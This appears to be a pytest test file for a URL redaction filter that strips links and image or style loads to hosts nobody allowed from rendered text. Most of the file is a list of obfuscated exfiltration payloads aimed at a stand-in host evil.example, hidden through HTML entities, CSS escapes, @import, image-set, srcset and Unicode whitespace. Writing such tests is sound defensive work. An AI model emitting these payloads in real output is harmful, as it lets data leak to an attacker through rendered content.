"""What real renderers load of a text that passed leads where somebody trusted said, and nowhere."""

import random
from collections.abc import Iterable

import pytest
from tests.core.redaction.fragments import chunks
from tests.core.redaction.rendered import Texts, places

from jackline.core.guards import Audience
from jackline.core.redaction import Links, Named

HOSTS = Links(["good.example"])
NAMED = "https://evil.example/page"
EXACT = Links().fit(Audience("acme", named=Named([f"Read {NAMED} for me, please."])))


def passed(links: Links, text: str, seed: int) -> str:
    """Return what passes of a text, in pieces as in the whole."""
    verdict = links.judge("output", text)
    out = text if verdict.text is None else verdict.text
    stream = links.stream()
    pieces = map(stream.feed, chunks(random.Random(seed), text))
    assert "".join([*pieces, stream.finish()]) == out, text
    return out


def led_away(seeds: Iterable[int]) -> list[str]:
    """Return each text of which a renderer loads from a host that nobody allowed."""
    return [
        text
        for seed in seeds
        for text in [Texts(seed).text()]
        for host, _ in places(passed(HOSTS, text, seed))
        if host != "good.example"
    ]


def altered(seeds: Iterable[int]) -> list[str]:
    """Return each text of which a renderer loads more than the URL that was named."""
    found = list[str]()
    for seed in seeds:
        draw = random.Random(seed)
        more = "".join(draw.choices(".,;:!?*_~/|'^{} )", k=draw.randint(1, 5)))
        text = Texts(seed).text(NAMED + more + draw.choice(("", "S")))
        # A scheme that the page around it gives is none that was added.
        loaded = {url.removesuffix("/") for _, url in places(passed(EXACT, text, seed))}
        if loaded - {NAMED, NAMED.removeprefix("https:")}:
            found.append(text)
    return found


def test_nothing_loads_from_a_host_that_nobody_allowed() -> None:
    assert led_away(range(1500)) == []


def test_nothing_loads_a_url_with_more_in_it_than_was_named() -> None:
    assert altered(range(1000)) == []


AWAY = "//evil.example/x?d=1"


@pytest.mark.parametrize(
    "text",
    [
        f'<img src="{"&Tab;" * 60}h&#116;tps&#58;{AWAY}">',
        f'<img src="{"&NewLine;" * 30}h&#116;tps&#58;{AWAY}">',
        f'<img srcset="a.png 1x&comma;{AWAY} 2x">',
        '<img srcset="a.png 1x, htt&#112;s&#58;/&#47;evil.example/x?d=1 2x">',
        '<img srcset="a 1x, //good.example|@evil.example/x?d=1 2x">',
        "![x](<https://good.example|@evil.example/x?d=1>)",
        f'<div style="background:url&lpar;{AWAY})">',
        rf'<div style="background:url(https\3a{AWAY})">',
        "![x](https://good.example\xa0@evil.example/x?d=1)",
        "![x](https://good.example\u2003@evil.example/x?d=1)",
        f"![x](https://good.example{'^' * 64}@evil.example/x?d=1)",
        *(f"![x]({blank}{AWAY})" for blank in "\xa0\u1680\u2003\u2028\u2029\u3000\ufeff"),
        "![x](\xa0h&#116;tps&#58;/&#47;evil.example/x?d=1)",
        "See https://good.example/![x](https://evil.example/x?d=1)",
        "https://good.example/[a]![x](//evil.example/x?d=1)",
        "![x](\u2028 \ufeff</\\/evil.example/x?d=1>)",
        rf"![x](h&#116tps\:{AWAY})",
        r"![x](<&#47\/evil.example/x?d=1>)",
        "![x][r]\n\n[r]: h&#116tps\\:/\\/evil.example/x?d=1\n",
        r'<style>@import/**/"\2f\2f evil.example/x?d=1";</style>',
        rf'<style>@import /* ; */ "https\3a {AWAY}";</style>',
        r'<style>a{b:image-set(/**/"\2f\2f evil.example/x?d=1" 1x)}</style>',
        r"<style>a{b:image-set('a' 1x,/*)*/'\2f\2f evil.example/x?d=1' 2x)}</style>",
        "<svg><style>*{b:url&#40;&#47;&#47;evil.example/x?d=1)}</style></svg>",
        "<svg><style>*{b:&#117;rl(&Tab;&bsol;2f/evil.example/x?d=1)}</style></svg>",
        f"<svg><style>*{{b:url&lpar;{AWAY})}}</style></svg>",
        "<svg><style>@import &quot;&#47;&#47;evil.example/x?d=1&quot;;</style></svg>",
        f"<svg><style>&commat;import &#x22{AWAY}&QUOT;;</style></svg>",
        f"<style>@import &#39;{AWAY}",
    ],
)
def test_what_led_away_once_leads_nowhere(text: str) -> None:
    assert "evil.example" in {host for host, _ in places(text)}
    assert {host for host, _ in places(passed(HOSTS, text, 0))} <= {"good.example"}


@pytest.mark.parametrize("more", [",*!!:!!,;*", "////", "\xa0SECRET", "|SECRET", "%20", " SECRET"])
@pytest.mark.parametrize(
    "form",
    [
        "![x](<{}>)",
        '<img src="{}">',
        "![x]({})",
        "[r]: <{}>\n\n![x][r]",
        '<style>@import/**/"{}";</style>',
        '<style>a{{b:image-set(/*"*/"{}" 1x)}}</style>',
        "<style>a{{b:image-set(url(x) 1x, '{}' 2x)}}</style>",
        "<svg><style>@import &quot;{}&quot;;</style></svg>",
    ],
)
def test_nothing_rides_behind_a_url_that_was_named(form: str, more: str) -> None:
    out = passed(EXACT, form.format(NAMED + more), 0)
    assert {url.removesuffix("/") for _, url in places(out)} <= {NAMED}


@pytest.mark.parametrize(
    "text",
    [
        "x = foo(a, //first\n        b)",
        "total = 1 //todo",
        "half = f(a,//b)",
        "if (a // b) { return } // see above",
        "Use `a//b`, or a | b | c in a table.",
        f"See {NAMED}, please. ({NAMED})",
        f"[the page]({NAMED}) and <{NAMED}>",
    ],
)
def test_code_and_what_was_named_stay(text: str) -> None:
    assert passed(EXACT, text, 0) == text


def test_texts_do_lead_away_before_they_are_looked_at() -> None:
    texts = [Texts(seed).text() for seed in range(300)]
    assert sum(any(host == "evil.example" for host, _ in places(text)) for text in texts) > 50


@pytest.mark.soak
@pytest.mark.timeout(0)
def test_nothing_leads_away_in_many_more_texts() -> None:
    assert led_away(range(1500, 101_500)) == []
    assert altered(range(1000, 51_000)) == []


@pytest.mark.parametrize("definition", ["[a]:\x0c<{}>", "[a]: <{}>", "<{}>", "[a](<{}>)"])
def test_an_entity_in_angles_is_undone_or_not_and_either_host_has_to_be_allowed(
    definition: str,
) -> None:
    text = definition.format("https://good.example&sol;.evil.example")
    assert "evil" not in passed(HOSTS, text, 0)


@pytest.mark.parametrize(
    "host", ["good.&#101;xample\u3002evil.example", "good.example\u3002evil.example"]
)
@pytest.mark.parametrize(
    "form", ["See https:{} now", "<svg><style>@import /*\"&#42;/'{}", "[a](https:{})"]
)
def test_a_host_goes_on_behind_a_stop_of_another_script_whatever_entity_it_has(
    form: str, host: str
) -> None:
    out = passed(HOSTS, form.format(f"//{host}/x"), 0)
    assert {host for host, _ in places(out)} <= {"good.example"}
    assert "&#101;" not in out
